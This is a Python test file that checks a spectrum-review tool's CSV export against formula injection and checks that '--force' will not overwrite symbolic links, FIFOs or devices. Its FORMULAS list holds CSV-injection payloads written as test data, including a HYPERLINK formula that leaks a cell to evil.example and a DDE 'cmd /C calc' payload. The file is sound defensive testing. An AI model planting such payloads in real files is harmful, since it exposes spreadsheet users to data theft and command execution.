"""Safe outputs of `specreview export` (issue 18, finding 9): a CSV cell that a spreadsheet would run
as a formula is written as text (prefixed with '), numbers, negative ones included, stay numbers;
`--force` replaces a regular file only, never a symbolic link, a device or a folder."""
from __future__ import annotations

import csv
import os
import stat

import pytest

from reviewer.cli import main
from reviewer.store import Store

# what a spectrum file's header, an object id, a reviewer name or a comment can carry into the CSV
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", " =1+1", "x\r=1+1", "x\n@SUM(A1)"]


def build(path, formula: str):
    with Store(path) as store:
        store.spectra.add_spectrum({
            "spectrum_id": "s1", "source_path": "x/s1.fits", "file_sha256": "ab" * 32, "object_id": formula,
            "pipeline_class": formula, "pipeline_z": -0.001,
            "header": {"EXPID": formula, "NIGHT": "20210324", "TILEID": "-5", "DELTACHI2": "-12.5"}})
        store.spectra.add_spectrum({"spectrum_id": "s2", "source_path": "x/s2.fits", "file_sha256": "cd" * 32,
                                    "object_id": "-39633345008634465", "pipeline_z": 0.5})
        store.labels.add_vi_label("s1", formula, quality=3, z=-0.001, spectype=formula, comment=formula)
        store.labels.add_vi_label("s2", "ann", quality=1, z=-0.25, comment="- looks like a star")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def read(path):
    with open(path, newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 2 and all(None not in r for r in rows), rows  # no row split or widened by a value
    return {r["VI_scanner"]: r for r in rows}


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_vi_csv_passes_no_formula_through(tmp_path, capsys, formula):
    db, out = tmp_path / "r.duckdb", tmp_path / "vi.csv"
    build(db, formula)
    assert main(["export", "vi", "--db", str(db), "--out", str(out)]) == 0
    rows = read(out)
    for row in rows.values():
        for column, cell in row.items():
            if cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@"):
                assert _is_number(cell), (column, cell)  # only a number may start like a formula
    hostile = next(r for name, r in rows.items() if name != "ann")
    assert not any("\r" in cell or "\n" in cell for cell in hostile.values())  # a line break could start a row
    if formula[:1] in ("\t", "\r") or formula.lstrip()[:1] in ("=", "+", "-", "@"):
        assert hostile["VI_scanner"].startswith("'") and hostile["TARGETID"].startswith("'")
        assert hostile["VI_spectype"].startswith("'") and hostile["EXPID"].startswith("'")
    # numbers stay numbers, negative ones too
    assert (hostile["VI_z"], hostile["Redrock_z"], hostile["TILEID"]) == ("-0.001", "-0.0010", "-5")
    assert hostile["Redrock_deltachi2"] == "-12.5"
    assert rows["ann"]["TARGETID"] == "-39633345008634465" and rows["ann"]["VI_z"] == "-0.25"
    assert rows["ann"]["VI_comment"] == "'- looks like a star"  # text, even when harmless


@pytest.fixture
def db(tmp_path):
    path = tmp_path / "r.duckdb"
    build(path, "plain")
    return path


def one_line(capsys, *words):
    err = capsys.readouterr().err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    for word in words:
        assert word in err, (word, err)


def test_force_does_not_replace_a_symbolic_link(tmp_path, capsys, db):
    target = tmp_path / "elsewhere.txt"
    target.write_text("not ours\n")
    link = tmp_path / "vi.csv"
    link.symlink_to(target)
    assert main(["export", "vi", "--db", str(db), "--out", str(link), "--force"]) == 1
    one_line(capsys, str(link), "symbolic link", "regular file")
    assert link.is_symlink() and os.readlink(link) == str(target) and target.read_text() == "not ours\n"


def test_force_does_not_replace_a_dangling_symbolic_link(tmp_path, capsys, db):
    link = tmp_path / "vi.csv"
    link.symlink_to(tmp_path / "nowhere")
    assert main(["export", "vi", "--db", str(db), "--out", str(link), "--force"]) == 1
    one_line(capsys, str(link), "symbolic link")
    assert link.is_symlink() and not (tmp_path / "nowhere").exists()


def test_force_does_not_replace_a_device_or_a_fifo(tmp_path, capsys, db):
    fifo = tmp_path / "vi.csv"
    os.mkfifo(fifo)  # a special file anyone may make (a device node needs root)
    assert main(["export", "vi", "--db", str(db), "--out", str(fifo), "--force"]) == 1
    one_line(capsys, str(fifo), "regular file")
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    if os.path.exists("/dev/null"):
        assert main(["export", "vi", "--db", str(db), "--out", "/dev/null", "--force"]) == 1
        one_line(capsys, "/dev/null", "device")
        assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)


def test_force_does_not_replace_a_symbolic_link_inside_a_folder_export(tmp_path, capsys, db):
    out = tmp_path / "pq"
    out.mkdir()
    target = tmp_path / "elsewhere.parquet"
    target.write_text("not ours\n")
    (out / "spectra.parquet").symlink_to(target)
    assert main(["export", "parquet", "--db", str(db), "--out", str(out), "--force"]) == 1
    one_line(capsys, "spectra.parquet", "symbolic link")
    assert (out / "spectra.parquet").is_symlink() and target.read_text() == "not ours\n"
    assert sorted(p.name for p in out.iterdir()) == ["spectra.parquet"]  # nothing else was moved in


def test_force_still_replaces_a_regular_file(tmp_path, db):
    out = tmp_path / "vi.csv"
    out.write_text("old\n")
    assert main(["export", "vi", "--db", str(db), "--out", str(out), "--force"]) == 0
    assert len(read(out)) == 2
